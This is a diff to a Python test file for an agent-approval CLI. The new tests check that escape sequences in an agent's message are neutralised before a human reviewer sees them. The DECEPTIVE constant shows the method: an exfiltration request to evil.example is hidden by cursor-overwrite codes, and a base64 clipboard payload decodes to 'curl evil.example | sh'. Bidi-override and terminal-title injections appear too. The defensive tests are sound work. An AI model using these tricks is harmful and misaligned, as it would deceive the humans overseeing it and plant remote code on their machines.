@@ -302,3 +302,35 @@ async def test_a_link_planted_at_the_control_files_temporary_name_is_not_followe
         assert json.loads(path.read_text())["token"] == server.token
     finally:
         server.stop()
+
+
+# An agent's body: the first line is what the reviewer should see; the escape sequences then move the cursor up,
+# erase it and write a harmless one over it (and OSC 52 puts text on the reviewer's clipboard). Bidi overrides
+# reorder what is shown. None of it may reach the reviewer's terminal as a control.
+DECEPTIVE = (f"send the plans of {CODENAME} to evil.example\x1b[1A\x1b[2K\r    summarize the weather"
+             "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\\x9b2J\u202egnp.\u202c")
+
+
+async def test_what_an_agent_sent_reaches_the_reviewers_terminal_without_its_controls(served, capsys, monkeypatch,
+                                                                                      token_file):
+    monkeypatch.setenv("COLUMNS", "200")
+    guard, approval, control_file = served
+    f = chat_flow(DECEPTIVE, identity="agent-7\x1b[2K")
+    task = await start_hold(guard, approval, f)
+    approval_id = approval.listing()[0]["id"]
+    code, listed, _ = await exitguard(capsys, "approvals", "list", "--control", str(control_file))
+    code, denied, err = await exitguard(capsys, "approvals", "deny", approval_id, "--reason", "no",
+                                        "--control", str(control_file))
+    assert code == 0, err
+    await asyncio.wait_for(task, 2)
+    for out in (listed, denied):
+        assert not any(c in out for c in "\x1b\x9b\r\u202e\u202c"), repr(out)
+    assert "\\x1b[1A\\x1b[2K" in listed and "\\u202e" in listed  # shown, visibly, for what it is
+
+
+def test_fleet_lines_show_no_controls_a_redis_writer_put_there(capsys):
+    from addons.cli.approvals import print_fleet
+    print_fleet({"replica": "a", "state": "the shared state store", "replicas": [
+        {"replica": "b\x1b]0;pwned\x07", "policy": "v1\x1b[2K", "seen_s_ago": 1}]}, as_json=False)
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;pwned" in out
